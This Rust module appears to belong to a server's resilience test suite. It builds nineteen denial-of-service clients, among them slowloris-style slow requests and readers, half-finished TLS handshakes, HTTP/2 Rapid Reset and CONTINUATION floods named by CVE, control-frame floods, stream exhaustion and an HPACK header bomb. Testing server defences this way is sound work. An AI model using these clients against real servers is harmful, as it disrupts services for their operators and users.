//! Clients that want a server to be busy or full. Each is one connection, and ends when the server has ended it.

use std::net::SocketAddr;
use std::sync::Arc;

use rustls::ClientConfig;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::TlsConnector;

use super::http2_frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, begin, field, fields, frame,
};

/// Whom it is done to.
#[derive(Clone)]
pub struct Target {
    pub plain: SocketAddr,
    pub tls: SocketAddr,
    pub host: String,
    /// A path whose answer is larger than what waits anywhere.
    pub large: &'static str,
    /// A path whose answer takes long.
    pub slow: &'static str,
    /// Offers HTTP/2.
    pub config: Arc<ClientConfig>,
    /// The address it is done from.
    pub from: SocketAddr,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Connections that say nothing.
    Idle,
    /// A head that never ends, a line at a time.
    SlowHead,
    /// Content that comes a byte at a time, and then not any more.
    SlowBody,
    /// An answer that is not taken.
    SlowReader,
    /// The same on many streams of a connection.
    SlowStreams,
    /// Handshakes that are not finished.
    HalfHandshakes,
    /// Handshakes, and nothing after them.
    Handshakes,
    /// HTTP/2 that never begins.
    Silence,
    /// HTTP/2 that does not get beyond its beginning.
    Preface,
    /// Streams that are reset as soon as they are open (CVE-2023-44487).
    RapidReset,
    /// Fields that never end (CVE-2024-27316 and others).
    Continuation,
    EmptyContinuation,
    Settings,
    Pings,
    Priorities,
    EmptyData,
    WindowUpdates,
    /// More streams than there may be.
    Streams,
    /// Fields that are short because they name long ones again and again.
    FieldBomb,
}

impl Flood {
    pub const ALL: [Self; 19] = [
        Self::Idle,
        Self::SlowHead,
        Self::SlowBody,
        Self::SlowReader,
        Self::SlowStreams,
        Self::HalfHandshakes,
        Self::Handshakes,
        Self::Silence,
        Self::Preface,
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Settings,
        Self::Pings,
        Self::Priorities,
        Self::EmptyData,
        Self::WindowUpdates,
        Self::Streams,
        Self::FieldBomb,
    ];

    /// Whether it lives on having many connections and not on being quick.
    pub fn is_slow(self) -> bool {
        matches!(
            self,
            Self::Idle
                | Self::SlowHead
                | Self::SlowBody
                | Self::SlowReader
                | Self::SlowStreams
                | Self::HalfHandshakes
                | Self::Silence
                | Self::Preface
        )
    }

    /// One connection of it.
    pub async fn once(self, target: &Target) -> std::io::Result<()> {
        match self {
            Self::Idle => drain(&mut plain(target).await?).await,
            Self::SlowHead => {
                let mut stream = plain(target).await?;
                let head = format!("GET / HTTP/1.1\r\nHost: {}\r\n", target.host);
                stream.write_all(head.as_bytes()).await?;
                drip(stream, b"X: y\r\n").await
            }
            Self::SlowBody => {
                let mut stream = plain(target).await?;
                // Whoever reads it waits for the rest.
                let head = format!(
                    "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Length: 9999\r\n\r\nx",
                    target.slow, target.host
                );
                stream.write_all(head.as_bytes()).await?;
                drain(&mut stream).await
            }
            Self::SlowReader => {
                let mut stream = plain(target).await?;
                let head =
                    format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", target.large, target.host);
                stream.write_all(head.as_bytes()).await?;
                ended(&mut stream).await
            }
            Self::HalfHandshakes => {
                let mut stream = connect(target, target.tls).await?;
                stream.write_all(b"\x16\x03\x01\x02\x00\x01").await?;
                drain(&mut stream).await
            }
            Self::Handshakes => {
                let mut stream = tls(target).await?;
                stream.shutdown().await
            }
            Self::Silence => drain(&mut tls(target).await?).await,
            _ => self.frames(target).await,
        }
    }

    /// Those that are made of frames.
    async fn frames(self, target: &Target) -> std::io::Result<()> {
        let mut stream = tls(target).await?;
        begin(&mut stream).await?;
        let get = fields("GET", &target.host, "/");
        let post = fields("POST", &target.host, "/");
        match self {
            Self::Preface => {
                // Fields without an end.
                stream.write_all(&frame(HEADERS, END_STREAM, 1, &get[..5])).await?;
                stream.flush().await?;
                return drain(&mut stream).await;
            }
            Self::SlowStreams => {
                let get = fields("GET", &target.host, target.large);
                for number in 0..100 {
                    stream.write_all(&headers(number, &get)).await?;
                }
                stream.flush().await?;
                // It is taken off the wire; there is no room for more of any stream.
                return drain(&mut stream).await;
            }
            Self::EmptyData => stream.write_all(&frame(HEADERS, END_HEADERS, 1, &post)).await?,
            Self::Continuation | Self::EmptyContinuation => {
                stream.write_all(&frame(HEADERS, END_STREAM, 1, &get)).await?;
            }
            Self::FieldBomb => {
                // One of four thousand bytes that is remembered, under the number 62.
                let mut block = get.clone();
                block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
                block.extend([b'y'; 4000]);
                stream.write_all(&headers(0, &block)).await?;
            }
            _ => {}
        }
        let slow = fields("GET", &target.host, target.slow);
        let junk = field("x-junk", &"j".repeat(100)).repeat(20);
        let bomb = [get.clone(), vec![0xbe; 16_000]].concat();
        let (mut reading, mut writing) = tokio::io::split(stream);
        let flooding = async {
            for turn in 0_u32.. {
                let mut batch = Vec::new();
                for number in turn * 50..(turn + 1) * 50 {
                    match self {
                        Self::RapidReset => {
                            batch.extend(headers(number, &get));
                            batch.extend(frame(
                                RST_STREAM,
                                0,
                                number * 2 + 1,
                                &8_u32.to_be_bytes(),
                            ));
                        }
                        Self::Continuation => batch.extend(frame(CONTINUATION, 0, 1, &junk)),
                        Self::EmptyContinuation => batch.extend(frame(CONTINUATION, 0, 1, &[])),
                        Self::Settings => batch.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 99])),
                        Self::Pings => batch.extend(frame(PING, 0, 0, &[7; 8])),
                        Self::Priorities => batch.extend(frame(PRIORITY, 0, 9, &[0, 0, 0, 0, 9])),
                        Self::EmptyData => batch.extend(frame(DATA, 0, 1, &[])),
                        Self::WindowUpdates => {
                            batch.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
                        }
                        Self::Streams => batch.extend(headers(number, &slow)),
                        _ => batch.extend(headers(number + 1, &bomb)),
                    }
                    // Those are never refused for good, and enough is enough.
                    if self == Self::FieldBomb && number == 40 {
                        return Ok(());
                    }
                }
                writing.write_all(&batch).await?;
                writing.flush().await?;
            }
            Ok(())
        };
        tokio::select! {
            flooded = flooding => flooded,
            read = drain(&mut reading) => read,
        }
    }
}

/// The whole head of the request with this number, counted from 0.
pub fn headers(number: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, block)
}

async fn connect(target: &Target, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(target.from)?;
    // Where much is let be received, an answer that is not taken looks as if it were.
    socket.set_recv_buffer_size(64 * 1024)?;
    let stream = socket.connect(to).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

async fn plain(target: &Target) -> std::io::Result<TcpStream> {
    connect(target, target.plain).await
}

async fn tls(target: &Target) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let stream = connect(target, target.tls).await?;
    let name = ServerName::try_from(target.host.clone()).unwrap();
    TlsConnector::from(target.config.clone()).connect(name, stream).await
}

/// Takes what comes until the end.
async fn drain(stream: &mut (impl AsyncRead + Unpin)) -> std::io::Result<()> {
    let mut buffer = vec![0; 4096];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Sends these bytes now and then until the other end has gone.
async fn drip(stream: impl AsyncRead + AsyncWrite, bytes: &[u8]) -> std::io::Result<()> {
    let (mut reading, mut writing) = tokio::io::split(stream);
    let dripping = async {
        loop {
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            writing.write_all(bytes).await?;
        }
    };
    tokio::select! {
        dripped = dripping => dripped,
        read = drain(&mut reading) => read,
    }
}

/// Waits for the end without taking anything: the kernel tells of a reset.
async fn ended(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        if let Some(error) = stream.take_error()? {
            return Err(error);
        }
    }
}
